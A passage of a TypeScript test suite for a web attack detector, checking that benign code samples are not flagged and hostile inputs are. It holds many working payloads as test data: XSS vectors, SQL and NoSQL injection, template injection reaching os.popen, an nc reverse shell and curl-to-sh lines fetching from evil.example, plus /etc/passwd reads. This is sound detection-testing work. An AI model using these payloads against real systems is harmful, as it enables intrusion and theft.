    '    pub fn get_readable_handler(\n        &self,\n        validation_result: &ValidationResults,\n        user_id: &UserId,\n    ) -> Option<&(impl UserReadableBackendHandler + use<Handler>)> {\n        validation_result.can_read(user_id).then_some(&self.handler)\n    }',
    '#[function_component(Submit)]\npub fn submit(props: &Props) -> Html {\n    html! {\n      <div class="form-group row justify-content-center">\n        <button\n          class="btn btn-primary col-auto col-form-label"\n          type="submit"\n          disabled={props.disabled}\n          onclick={&props.onclick}>\n        </button>\n      </div>\n    }\n}',
    "<template>\n\t<ul>\n\t\t<NoteItem v-for=\"note in notes\"\n\t\t\t@startRenaming=\"onStartRenaming\"\n\t\t\t@noteDeleted=\"onNoteDeleted\"\n\t\t/>\n\t</ul>\n</template>\n\n<script>\nimport NoteItem from './NoteItem.vue'\n\nexport default {\n\tname: 'NotesList',",
  ]) t.same(field(p), [], p)
  // blanks inside a URL are still removed; a handler after a quote and a line break is still a handler
  for (const p of ['<a href="\njavascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="x"\nonclick="alert(1)">y</a>', '<img src="x"\tonerror="alert(1)">', '<x a="b"\nonfocus=alert(1) autofocus>', '<a onclick={&alert(1)}>x</a>', '<svg><a xlink:href="x"::<handler>']) t.ok(field(p).includes('xss'), `still read: ${p}`)
})

t.test('third review of the thirty-third round: operator injection and markup behind program-looking lines', async (t) => {
  const body = (ct: string, s: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': ct }, body: Buffer.from(s) })
  const closes = '{\n},\n{\n},\n{\n}'
  for (const s of [`{"n": NaN, "a": [${closes}],\n"username": "admin", "password": {"$ne": ""}}`, `{"d": ${'['.repeat(65)}0${']'.repeat(65)}, "x": [${closes}],\n"password": {"$gt": ""}}`]) t.ok(body('application/json', s).includes('nosqli'), `still read: ${s.slice(0, 60)}`)
  t.ok(body('application/json', `{\n// a\n// b\n// c\n"password": {"$ne": ""}}`).includes('nosqli'), 'lenient JSON with comment lines')
  t.ok(form(`snippet=${encodeURIComponent('import: 1\nreturn: 2\nconst: 3\npassword: {$ne: x}')}`).includes('nosqli'), "YAML keys named like a program's words")
  t.ok(form(`snippet=${encodeURIComponent('const x = 1\nfunction f() {\n  return x;\n}\n{"password":{"$ne":""}}')}`).includes('nosqli'), 'a quoted operator after program lines')
  for (const p of ['x::<iframe src=//evil.example/x>', 'x::<base href="//evil.example/">', 'x::<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>']) t.ok(form(`snippet=${encodeURIComponent(`const a = 1\nconst b = 2\nconst c = 3\n${p}\n`)}`).includes('xss'), `still read: ${p}`)
})

t.test("thirty-third round: a Django page's static scripts (fourth review: its own asset, by a literal path, nothing else)", async (t) => {
  t.same(field("{% block scripts %}\n{% compress js %}\n<script src=\"{% static 'js/projects.js' %}\"></script>\n{% endcompress %}\n{% endblock %}\n"), [], 'a static script')
  for (const p of ["{% block scripts %}\n<script src=\"{% static 'https://evil.example/x.js' %}\"></script>\n{% endblock %}\n", '<script src="{%/../api/jsonp?cb=alert(1)%}"></script>', '<p>hi</p>\n<script src="{{/../api/jsonp?cb=alert(1)}}"></script>\n{{ x }}', "<p>hi</p>\n<script src=\"{% static '../x.js' %}\"></script>\n{{ x }}", '<p>hi</p>\n<script src="{{ \'/x.js?cb=alert(1)\' }}"></script>\n{{ x }}']) t.ok(q(p).includes('xss'), `still read: ${JSON.stringify(p)}`)
  // (fourth review) a selector's line ending on `{` or `,` was exempted from the short header reading, and a system file ending a sentence from
  // the sentence reading; both withdrawn: `a⏎Upgrade:h2c,` is a header, `… | paste /etc/passwd` a file read
  for (const p of ['a\r\nUpgrade:h2c,', 'a\r\nForwarded:for=127.0.0.1,', 'a\rInjected:1\rUpgrade:websocket\rX:{']) t.ok(q(p).includes('crlf'), `still read: ${JSON.stringify(p)}`)
  for (const p of ['please send me the monthly report for the team as soon as you can because the meeting is soon | paste /etc/passwd', 'please send me the monthly report for the team as soon as you can because the meeting is soon\npaste /etc/passwd']) t.ok(q(p, 'desc').includes('path_traversal'), `still read: ${JSON.stringify(p)}`)
})

t.test("the thirty-third round's readings are bounded: many icons left open, an icon longer than icons are", async (t) => {
  const wide = new AttackDetector({ maxInspectBytes: 2_000_000 })
  const body = (s: string) => wide.detect({ ...base, headers: { ...base.headers, 'content-type': 'text/plain' }, body: Buffer.from(s) })
  // 10,000 icon openings with no closing tag, then a handler: read to the end, still XSS, and no exception
  const open = '<svg viewBox="0 0 24 24"><path d="M1 2"/>'.repeat(10_000)
  t.ok(body(`${open}<img src=x onerror=alert(1)>`).includes('xss'), 'a handler after many open icons')
  // an "icon" longer than MAX_ICON is not judged inert: its opening stays an SVG element
  t.ok(body(`<svg viewBox="0 0 24 24"><path d="${'M1 2 '.repeat(5000)}"/></svg>`).includes('xss'), 'an element longer than an icon')
  t.same(q('<svg viewBox="0 0 24 24"><path d="M1 2"/></svg>'), [], 'a short icon stays inert')
})

t.test('thirty-fourth round: a reader given no file, Go templates on one line, JSX handlers, a dashboard\'s SQL', async (t) => {
  // a reader with no operand reads its standard input: an item of a list, not a command line
  for (const v of ['dog;cat', 'dog;cat;bird', 'a|cat', 'x;nl', 'animal;od']) t.same(q(v), [], v)
  for (const v of [';cat</etc/passwd', ';cat /etc/passwd', 'x;cat index.php', ';cat$IFS/etc/passwd', '1;cat>/tmp/x', '$(cat)', '||cat', ';cat;id']) t.ok(q(v).includes('rce'), `still read: ${v}`)
  // Go templates in a prompt theme's JSON: each tag still a probe on a line without markup (the one-line page was withdrawn)
  for (const v of ['{% if 1 %}{{7*7}}{% endif %}', '{% if 1 %}{{ config }}{% endif %}', '{{ if 1 }}{{ .Env.DB_PASSWORD }}{{ end }}', '{{range .}}{{.Password}}{{end}}', '{{range .}}{{.Env.AWS_SECRET_ACCESS_KEY}}{{end}}', '{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}', '{% if 7 > 6 %}yes{% endif %}', '{{ if .x }}{{ end }}{{ .Env.DATABASE_URL }}']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // a JSX handler chosen by a comparison with a word's literal
  t.same(q("<IconButton onClick={task.State == 'Running' ? handleStopTask : handleStartTask}>\n  x\n</IconButton>"), [], 'a handler chosen by a comparison')
  for (const v of ["<b onClick={a == 'x' ? alert : b}>", "<b onclick={a == 'x' ? location : b}>", "<b onclick={a=='1'?eval:b}>"]) t.ok(q(v).includes('xss'), `still read: ${v}`)
  // review: code glued after the brace is the handler's too (an unquoted attribute value runs to a blank or `>`)
  for (const v of ["<img src=x onerror={name=='x'?name:name}setTimeout(name)>", '<img src=x onerror={name?name:name}setTimeout(name)>', '<img src=x onerror={f(1)}setTimeout(name)>', '<img src=x onerror={name}setTimeout(name)>', "<img src=x onerror={name==name?name:name}self[atob('YWxlcnQ')](1)>"]) t.ok(q(v).includes('xss'), `still read: ${v}`)
  // a dashboard's queries in a JSON document: quoted aliases, a product by a number, its variables and macros, a union in parentheses
  const filler = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  for (const rawSql of [
    'SELECT \r\n   relname AS "Table",\r\n   pg_relation_size(relid) as "Data"\r\nFROM \r\n   pg_catalog.pg_statio_user_tables\r\nORDER BY \r\n   pg_total_relation_size(relid) DESC;',
    "SELECT cast(setting as numeric) * 8 * 1024 FROM pg_catalog.pg_settings WHERE name = 'shared_buffers';",
    'SELECT $__time(date), battery_level AS "SOC"\nFROM positions\nWHERE car_id = $car_id AND $__timeFilter(date)',
  ]) t.same(json({ ...filler, rawSql }), [], rawSql)
  // review: a query opening in parentheses is no statement (a numeric position's injection looks so), and a statement probing a delay,
  // a file, a command or a tautology is no report's query, in a document too
  for (const v of [
    '(select * from (select(sleep(5)))a)', "(SELECT DBMS_PIPE.RECEIVE_MESSAGE('a',10) FROM DUAL)\n", "(select pg_read_file('/etc/passwd'))\n", '(select 1)\n;drop table users--',
    '(select 1)\nunion select username,password from users--', 'select sleep(5) from dual', 'SELECT pg_sleep(5) as "x"', "select load_file('/etc/passwd')", 'select * from users where id=1 or 1=1',
    'select sleep(5) * 1 from dual', 'select $x, sleep(5) from dual',
  ]) t.ok(json({ ...filler, x: v }).includes('sqli'), `still read: ${v}`)
  for (const v of ["1' union select a as 'x' from users--", '1 union select 2*3 as "x" from users--', "'; select $x from users--"]) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  // an SVG image as a base64 data: URL, decoded: an icon that can run nothing is no markup; one that can is XSS
  const svgData = (svg: string) => `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`
  const icon = '<?xml version="1.0" encoding="UTF-8"?><!-- Generator: x --><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 18 18"><defs><style>.a{fill:#fff}</style></defs><path class="a" d="M1 2h3"/></svg>'
  t.same(json({ schemaVersion: 'v6', image: svgData(icon), title: 'x' }), [], 'a dashboard\'s icon')
  for (const svg of [
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>alert(1)</script><path d="M1"/></svg>', '<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><foreignObject><body onload=alert(1)></body></foreignObject><path d="M1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M1"/></svg><svg onload=alert(1)>', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M1"/><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><a href="javascript:alert(1)"><path d="M1"/></a></svg>', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><style>@import url(//evil.example/x.css)</style><path d="M1"/></svg>',
  ]) t.ok(json({ schemaVersion: 'v6', image: svgData(svg), title: 'x' }).includes('xss'), `still read: ${svg}`)
  t.ok(q(`${svgData(icon)} ${svgData('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>alert(1)</script><path d="M1"/></svg>')}`, 'img').includes('xss'), 'an icon beside an active image')
  // a reverse proxy's routing rule: matchers given back-quoted strings, joined by && || ! and parentheses
  for (const v of ['Host(`foo.com`) && PathPrefix(`/bar`)', 'Host(`a.com`) || (PathPrefix(`/x`) && !Method(`POST`))', 'HostRegexp(`{sub:[a-z]+}.example.com`) && PathRegexp(`^/api/v[0-9]+`)']) t.same(q(v, 'rule'), [], v)
  for (const v of ['Host(`foo.com`) && PathPrefix(`/bar`) union select 1', "Host(`x`) && PathPrefix(`') or 1=1--`)", 'Host(`x`) && sleep(5)', 'Host(`foo.com`) && 1=1', 'Host(`x`)\n;drop table users']) t.ok(q(v, 'rule').includes('sqli'), `still read: ${v}`)
  // a dashboard legend's Kubernetes label is no Jinja global; the global called or walked still is
  const filler26 = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  for (const v of ['{{namespace}}', '{{ namespace }} - {{pod}}']) t.same(json({ ...filler26, legendFormat: v }), [], v)
  for (const v of ['{{namespace.__init__}}', '{{ namespace(a=1) }}', "{{namespace['x']}}"]) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // third review: a `## ` heading opening a value makes no document of it (a shell reads the line as a comment and runs the backticks)
  for (const v of ['## x\n`nc -e /bin/sh evil.example 4444` please', '## Setup notes\n`curl -s https://evil.example/x.sh | sh`', '## Notes heading\n`<script>alert(document.cookie)</script>`', "## Notes heading\n`' or 1=1-- -`"]) t.not(q(v, 'body').length, 0, `still read: ${v}`)
  for (const v of ['{{ (namespace)["_"*2~"init"~"_"*2]["_"*2~"globals"~"_"*2]["os"]["popen"]("id")["read"]() }}', "{{namespace     ['x']}}", '{{ namespace ~ (namespace) }}']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // third review: a router rule's strings spliced into a back-quoted SQL name close it at their first back quote
  for (const v of ['Host(` union select username,password from users#`)', 'Host(`,sleep(5)#`)', 'Query(`,benchmark(10000000,md5(1))#`)', 'Path(`x` ) || Host(` union all select table_name,2 from information_schema.tables#`)']) t.ok(q(v, 'rule').includes('sqli'), `still read: ${v}`)
  // third review: an SVG data: URL read as a browser reads it
  const b64 = (x: string) => Buffer.from(x).toString('base64')
  const ns = 'xmlns="http://www.w3.org/2000/svg"'
  let pre = `<svg ${ns}><!--</svg>`
  while (pre.length % 3 !== 0) pre = pre.replace('<svg ', '<svg  ')
  const rest = ' --><script>alert(1)</script></svg>'
  for (const sep of [' ', '%20', '\n', '%0A']) t.ok(json({ schemaVersion: 'v6', image: `data:image/svg+xml;base64,${b64(pre)}${sep}${b64(rest)}`, title: 'x' }).includes('xss'), `a base64 body split by ${JSON.stringify(sep)}`)
  for (const prefix of ['_', 'abcdefghijklmnopqrstuvw']) t.ok(json({ image: `data:image/svg+xml;base64,${b64(`<svg ${ns} xmlns:${prefix}="http://www.w3.org/2000/svg"><${prefix}:script>alert(1)</${prefix}:script><path d="M1"/></svg>`)}` }).includes('xss'), `a script under the prefix ${prefix}`)
  for (const svg of [`<svg ${ns} viewBox="0 0 1 1"><style>*{x:expression(alert(1))}</style><path d="M1"/></svg>`, `<svg ${ns} viewBox="0 0 1 1"><style>*{background:u\\72l(https://evil.example/x)}</style><path d="M1"/></svg>`, `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg ${ns} viewBox="0 0 1 1"><path d="M1"/></svg>`]) t.ok(json({ image: `data:image/svg+xml;base64,${b64(svg)}` }).includes('xss'), `still read: ${svg}`)
  // an icon's URL that begins an active one's cannot rename it
  let good = `<svg ${ns} viewBox="0 0 1 1"><path d="M1 2h3"/></svg>`
  while (good.length % 3 !== 0) good = good.replace('<svg ', '<svg  ')
  const active = `data:image/svg+xml;base64,${b64(good)}${b64('<script>alert(1)</script>')}`
  t.ok(q(`please use this icon here \`data:image/svg+xml;base64,${b64(good)}\` or <a href="${active}">x</a>`, 'body').includes('xss'), 'an active URL that begins with an icon\'s')
  // hostile shapes: many data: URLs (at most 8 are decoded a value: the rest stay read as before), a long rule (past 4,000
  // characters it is not read as a rule)
  const iconUrl = svgData(icon)
  t.ok(q(`${`${iconUrl} `.repeat(8)}${svgData('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M1"/></svg><script>alert(1)</script>')}`, 'img').includes('xss'), 'an active URL after eight icons')
  t.ok(q(`${'data:image/svg+xml;base64,'.repeat(100)}${svgData('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>alert(1)</script><path d="M1"/></svg>')}`, 'img').includes('xss'), 'a run of openings, then an active URL')
  t.ok(q(`${'Host(`a.example`) && '.repeat(200)}Host(\`x\`) union select password from users`, 'rule').includes('sqli'), 'a rule past its length is read as any value')
})

t.test("thirty-fifth round: a Vue I18n message's quoted markup, an n8n node's name, a configuration's placeholders", async (t) => {
  const filler = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  // a message's tag with its angle brackets quoted as literals, the tag closed later: markup
  for (const v of [
    `'<'a href="https://github.com/sysadminsmedia/homebox/releases/tag/v{ version }" target="_blank"'>' Version: { version } Build: { build } '</a>'`,
    `'<'span class="link-primary"'>'Create'</span>' a location`, `Click '<'b'>'here'</b>'`,
  ]) {
    t.same(q(v, 'version_link'), [], v)
    t.same(json({ ...filler, version_link: v }), [], `in a document: ${v}`)
  }
  // every other quote is still read, and so are strings compared with no tag closed
  for (const v of [
    "x'<'a'>' or '1'='1", "'<'a'>'or'1'='1", "'<'a'>''='", "1'<'a'>'--", "a'<'b'>'c", "1'<'br'>'#", "x'<'b'>' union select password from users--",
    "'<'a href=\" or 1=1-- \"'>'", "1'<'a'>' or sleep(5)#", "'<'a'>'||'1'='1'--", "'<'a'>' and 1=1 -- '</a>'", "'<'a'>'</a> or '1'='1",
    // review: names in the markup that SQL reads as code between a string's quotes, values that break out of their double quotes
    "x'<'b'>''<id or id-- >''</b>'", "x'<'b'>''<id or id or id>'</b>", "x'<'b'>''<name or name is not null-- >''</b>'", "admin'<'b'>''<id-- >''</b>'",
    "'<'a x=\" or id-- \"'>''</a>'", "'<'a x=\"||id-- \"'>''</a>'", "'<'a x=\"<id or id-- \"'>''</a>'",
  ]) {
    t.ok(q(v).includes('sqli'), `still read: ${v}`)
    t.ok(json({ ...filler, v }).includes('sqli'), `still read in a document: ${v}`)
  }
  // an n8n expression reading a node by its name
  t.same(q("={{ $('Config').item.json.chatId }}", 'chatId'), [], "an n8n node named 'Config'")
  t.same(json({ ...filler, chatId: "={{ $('Config').item.json.chatId }}" }), [], "an n8n node named 'Config', in a workflow")
  // the configuration read, called, walked or named beside a node's expression is still read; so is a settings' tree read in a long
  // value (Grav's `{{ config.plugins.email.mailer.smtp.password }}`, a game server egg's `{{config.docker.interface}}` alike)
  for (const v of ['{{config}}', '{{config.SECRET_KEY}}', '{{config.items()}}', '{{ config.from_envvar.__globals__ }}', "{{ $('x').config }}", "{{ $('a') ~ config }}", "{{ $('Config') }} {{config}}"]) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // review: a node accessor's opening before the tag names no node inside it
  for (const v of ["$('{{config.items()}}", "$(' {{ config.SECRET_KEY }}", "$('{{config|string}}", "$('x {{config.items()}}", "$('{{ config['SECRET_KEY'] }}"]) {
    t.ok(q(v).includes('ssti'), `still read: ${v}`)
    t.ok(q(`${'padding words '.repeat(16)}${v}`).includes('ssti'), `still read, padded: ${v}`)
    t.ok(json({ ...filler, v }).includes('ssti'), `still read in a document: ${v}`)
  }
  for (const v of ['{{config}} and {{config.docker.interface}}', `${'a long enough message, '.repeat(12)}{{ config.plugins.email.mailer.smtp.password }}`]) t.ok(json({ ...filler, files: v }).includes('ssti'), `still read in a document: ${v}`)
  // a workflow's expression walking an alert's fields is data; a sink's name subscripted on to a sink, a call or pieces is still script
  for (const v of ['={{$node["Webhook"].json["body"]["alert"]["externalEventId"]}}', '{{ $json["data"]["location"]["city"] }}', "row['document']['title']"]) t.same(q(v, 'pageId'), [], v)
  for (const v of ["[]['constructor']['constructor']('alert(1)')()", "self['document']['domain']", "top['doc'+'ument']['coo'+'kie']", "x]['alert'][0](1)", "top['alert']['call'](null,1)", "parent['document'][\"cookie\"]", "x)['alert'][name](1)", "top['location']['href']='javascript:alert(1)'", "top['location']['href']=name", "self['location']['assign'](name)", "top['location']['replace'](name)", "self['document']['write'](name)",
    "self['document']['body']['innerHTML']=name", "top['alert'][\n\n\n\n\n'call'](null,1)"]) t.ok(q(v).includes('xss'), `still read: ${v}`)
})

t.test("thirty-fifth round: the twenty-seventh part's false positives — a form's own target, a page's own function, a directory's name", async (t) => {
  const filler = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  // a button's formaction naming the site's own page or a template's placeholder
  for (const v of ['<button type="submit" form="form-review" formaction="{{ save }}" title="{{ button_save }}" class="btn btn-primary"><i class="fa-solid fa-floppy-disk"></i></button>', '<button formaction="/account/save">Save</button>', '<button formaction="save.php?x=1">Save</button>']) t.same(q(v, 'template'), [], v)
  for (const v of ['<button formaction="https://evil.example/">', '<button formaction="//evil.example/">', '<button formaction="/\\evil.example/">', '<button formaction=javascript:alert(1)>', '<button formaction="&#106;avascript:alert(1)">', '<button formaction="/\t/evil.example">', '<form><button formaction=x>', '<button formaction="save?next=javascript:alert(1)">', '<input type=image formaction="data:text/html,<script>alert(1)</script>">']) t.ok(q(v).includes('xss'), `still read: ${v}`)
  // a handler calling one of the page's own functions with nothing handed to it
  for (const v of ['Please back up first (<a href="#" onclick="ExportCSV()">click to download</a>).', 'or use the <a onclick="toggleAllSettings()" href="#SETPWD_RUN"><code>SETPWD_RUN</code> plugin</a>.']) {
    t.same(q(v, 'description'), [], v)
    t.same(json({ ...filler, description: v }), [], `in a document: ${v}`)
  }
  for (const v of ['<img src=x onerror="alert()">', '<img src=x onerror="print()">', '<img src=x onerror=x()>', '<a onclick="x();alert(1)">', '<svg onload="Function()">', '<a onclick="x()" onmouseover="alert(1)">', '<img src=x onerror="ExportCSV()" src="javascript:alert(1)">', '<a onclick="ExportCSV()"><script>alert(1)</script>', "<a onclick='submit()'>", '<form><button onclick="requestSubmit()">', '<a onclick="open()">', '<a onclick="ExportCSV()" style="x:expression(alert(1))">', '<a onclick="f(document.cookie)">']) t.ok(q(v).includes('xss'), `still read: ${v}`)
  // a link that does nothing (an empty block), a template's closing tags after a program's script close
  t.same(q('var seeMoreLink = $(\'<a href="javascript:{}"></a>\').on(\'click\', function (evt) { toggle() })', 'code'), [], 'an empty block as a link')
  for (const v of ['<a href="javascript:{alert(1)}">x</a>', '<a href="javascript:{};alert(1)">x</a>', '<a href="javascript:{}" onclick="alert(1)">x</a>']) t.ok(q(v).includes('xss'), `still read: ${v}`)
  const snippet = '    $.getJSON(url, { from: a })\n        .done(function (data) {\n            $area.text(data.summary);\n        });\n});\n</script>\n{% endif %}'
  t.same(json({ ...filler, code: snippet }), [], "a page's script closing before its template's {% endif %}")
  t.ok(json({ ...filler, code: `<script>alert(1)\n</script>\n{% endif %}` }).includes('xss'), 'still read: a script opened and closed before it')
  // review: a value a browser reads unquoted (a blank JavaScript has and HTML has not before its quote), a handler that fires without
  // the user, a browser's own function acting alone, installations' directories
  for (const v of ['<img src=x onerror=\v"x()";location=atob`amF2YXNjcmlwdDphbGVydChkb2N1bWVudC5kb21haW4p`>', '<img src=x onerror=\u00a0"x()";location=name>', "<img src=x onerror=\u3000'x()';location=name>", '<details open ontoggle=\v"x()";location=name>', '<img src=x onerror="x()"\v;location=name>',
    '<input autofocus onfocus="logout()">', '<body onload="deleteAccount()">', '<video src=x autoplay onplay="webkitEnterFullscreen()">', '<input type=file onclick="showPicker()">', '<a onclick="requestStorageAccess()">', '<a onmouseover="replaceChildren()">', '<input type=number onclick="stepUp()">']) t.ok(q(v).includes('xss'), `still read: ${JSON.stringify(v)}`)
  for (const v of ['<a onclick="ExportCSV();"/>', "<a onclick='save()'>x</a>"]) t.same(q(v, 'description'), [], v)
  for (const v of ['../../apache-tomcat-9.0.1/conf/tomcat-users.xml', '../../apache-activemq/conf/credentials.properties', '..%2f..%2fapache-tomcat%2fconf%2ftomcat-users.xml', '../../xampplite/passwords.txt', '..\\..\\xampplite\\security\\xamppdirpasswd.txt']) t.ok(json({ ...filler, template: v }).includes('path_traversal'), `still read: ${v}`)
  // withdrawn after review: a Markdown table in a JSON document's text is judged as any text (a row can run: `\r| curl …|sh #|`, a
  // row continued by a backslash, `$(…)` in a row inside a quote or a here-doc)
  const T = '| a | b |\n|---|---|\n'
  for (const v of ['x; curl http://evil.example/x.sh | sh\n| Date | Theme |\n|---|---|\n| a | b |', '| Date | Theme |\n|---|---|\n|a|b|\nx|id', `${T}| $(curl -s http://evil.example/x.sh|sh) | x |`, `cat <<EOF\n| $(curl -s http://evil.example/x.sh|sh) |\nEOF\n${T}`,
    `echo \\\n| curl -s http://evil.example/x.sh | sh #|\n${T}`, `| curl -s http://evil.example/x.sh | sh #|\n${T}`, `\r| curl -s http://evil.example/x.sh | sh #|\n${T}`]) t.ok(json({ ...filler, content: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
  // and in a Markdown document, a row ends at a line feed only
  t.ok(json({ body: `## Aliases\n\n| Alias | Command |\n|---|---|\n| a | b |\r| curl -s http://evil.example/x.sh | sh #|\n` }).includes('rce'), 'a carriage return inside a row')
  // a climb to a word that begins like a system directory is no climb to it
  t.same(q('See [the docs](../../config/bootloader.md#double-tap) for more.', 'body'), [], 'a documentation link to a bootloader page')
  for (const v of ['../../boot/grub/grub.cfg', '..\\..\\boot.ini', '../../../windows/win.ini', '..%2f..%2fwindows%2fwin.ini', '../../apache2/logs/access.log', '../../xampp/apache/conf/httpd.conf', '..\\..\\inetpub\\wwwroot\\web.config', '../boot', '../../WINDOWS/system32/drivers/etc/hosts']) t.ok(q(v, 'file').includes('path_traversal'), `still read: ${v}`)
})

t.test("thirty-fifth round, end: the twenty-eighth part's false positives — a handler handed data, a frame named bare, a link's no-op URL", async (t) => {
  const filler = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  // a page's own function given numbers, truth values, null, short plain strings or objects of them
  for (const v of ['<button class="btn btn-xs" onclick="requestJson({AudioReactive:{enabled:true}});"><i class="icons off">&#xe08f;</i></button>', '<a onclick="nav(3)">next</a>', "<a onclick=\"nav('page 2')\">next</a>", '<a onclick="showTab(2, true)">tab</a>', "<a onclick=\"f({a:'x'},2,true,null)\">x</a>"]) t.same(q(v, 'html'), [], v)
  for (const v of ['<a onclick="go(3)">', "<a onclick=\"nav('javascript:alert(1)')\">", "<a onclick=\"run('alert(1)')\">", '<a onclick="f({a:document.cookie})">', '<a onclick="f({a:alert(1)})">', '<a onclick="f(location)">', '<a onclick="f(1)+alert(1)">', "<a onclick=\"f('x')';alert(1);'\">", "<a onclick=\"f('&#39;);alert(1);//')\">", "<a onclick=\"f('&apos;-alert(1)-&apos;')\">", '<a onclick="print(1)">', '<img src=x onerror="f(1)">', '<a onclick="f(1,(alert(1)))">']) t.ok(q(v).includes('xss'), `still read: ${v}`)
  // review: no URL in a string (a page's loader fetches it), no attribute set, no string in the attribute's own quote
  for (const v of ["<a onclick=\"loadJS('//evil.example/x.js')\">x</a>", "<a onclick=\"ajaxLoad('/x.html','#main')\">x</a>", "<button onclick=\"setAttribute('formaction','//evil.example/c')\">go</button>", "<form onsubmit=\"setAttribute('action','x')\">", "<a onclick=\"setAttribute('ping','x')\">", "<a onclick='f(' contenteditable autofocus hidden ')'>", "<a onclick=\"insertAdjacentHTML('x','y')\">", "<a onclick=\"fetchLater('x')\">", '<a href="#" onclick="clearInterval(1)">go</a>', '<a onclick="cancelAnimationFrame(1)">', "<div onclick=\"setHTML('Account closed')\">", "<input onclick=\"setRangeText('x', 0, 99)\">", "<a onclick=\"navigate('x')\">"]) t.ok(q(v).includes('xss'), `still read: ${v}`)
  // a frame or an inline frame named bare, in prose
  for (const v of ['Expose <iframe> via <html[stylus-iframe]>', 'Ensure <frame> and <iframe> elements with focusable content do not have tabindex=-1']) t.same(json({ ...filler, message: v }), [], v)
  for (const v of ['<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<iframe/src=//evil.example>', '<iframe\tsrc=//evil.example>', '<frame src=javascript:alert(1)>', '<IFRAME SRC="//evil.example"></IFRAME>']) t.ok(q(v).includes('xss'), `still read: ${v}`)
  // a data file's name under a redirect-looking key (a workflow's input): no top-level domain ends so; a host still is a target
  for (const v of ['ref.fasta', 'data.csv', 'reads.fastq', 'config.yaml']) t.same(q(v, 'location'), [], v)
  for (const v of ['evil.com', 'evil.com/x.csv', 'evil.zip', 'evil.md', '@evil.example']) t.ok(q(v, 'location').includes('open_redirect'), `still read: ${v}`)
  // a link's URL that does nothing, as a whole value in a document
  for (const v of ['javascript:void(0)', 'javascript:;', 'javascript:{}']) t.same(json({ ...filler, url: v }), [], v)
  for (const v of ['javascript:void(0);alert(1)', 'javascript:void(alert(1))', 'javascript:alert(1)', 'javascript:void(0)//%0aalert(1)', 'javascript:void(0)\nalert(1)']) t.ok(json({ ...filler, url: v }).includes('xss'), `still read: ${JSON.stringify(v)}`)
})

t.test("thirty-sixth round: the twenty-ninth part's false positives — a provider's embed script, a form a script submits, an enumeration's word, a gloss", async (t) => {
  const filler = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  // a social or media site's embed code, its one fixed script exactly
  const flickr = '<a data-flickr-embed="true" href="https://www.flickr.com/photos/s2art/189574055/" title="drowning"><img src="https://c8.staticflickr.com/1/67/189574055_37e836feaa.jpg" width="500" height="375" alt="drowning"></a><script async src="//embedr.flickr.com/assets/client-code.js" charset="utf-8"></script>'
  for (const v of [flickr, '<blockquote class="twitter-tweet"><a href="https://twitter.com/x/status/1">x</a></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>', '<script async src="//www.instagram.com/embed.js"></script>']) {
    t.same(q(v, 'body'), [], v)
    t.same(json({ ...filler, body: `---\nlayout: post\ntitle: Version 2.0.1\n---\n\n${v}\n\nWe are pleased to announce.` }), [], `in a post: ${v}`)
  }
  for (const v of ['<script async src="https://platform.twitter.com/widgets.js?callback=alert" charset="utf-8"></script>', '<script async src="https://platform.twitter.com/widgets.js" onload="alert(1)"></script>', '<script src="https://platform.twitter.com/widgets.js">alert(1)</script>',
    '<script src="https://platform.twitter.com/widgets.js"></script><script>alert(1)</script>', '<script src="https://platform.twitter.com.evil.example/widgets.js"></script>', '<script src="http://platform.twitter.com/widgets.js"></script>', '<script src="https://gist.github.com/x/1.js"></script>',
    '<script src="https://platform.twitter.com/widgets.js"></script><img src=x onerror=alert(1)>', '<script src="//embedr.flickr.com/assets/client-code.js/../../x.js"></script>', '<script src="https://platform.twitter.com/widgets.js" src="//evil.example/x.js"></script>']) t.ok(q(v, 'body').includes('xss'), `still read: ${v}`)
  // a handler that only cancels its event or lets it go on
  for (const v of ["<form action=\"{{ route('api.suppliers.store') }}\" onsubmit=\"return false\">", '<a href="#" onclick="return false;">x</a>', '<a onclick="event.preventDefault()">x</a>', "<button onclick='return true'>x</button>"]) t.same(json({ ...filler, code: v }), [], v)
  for (const v of ['<a onclick="return false;" onmouseover="alert(1)">', '<form onsubmit="return false"onmouseover="alert(1)">', '<img src=x onerror="return false;alert(1)">', '<img src=x onerror=return false>', '<img src=x onerror="return alert(1)">', '<img src=x onerror=\v"return false";alert(1)>']) t.ok(q(v).includes('xss'), `still read: ${v}`)
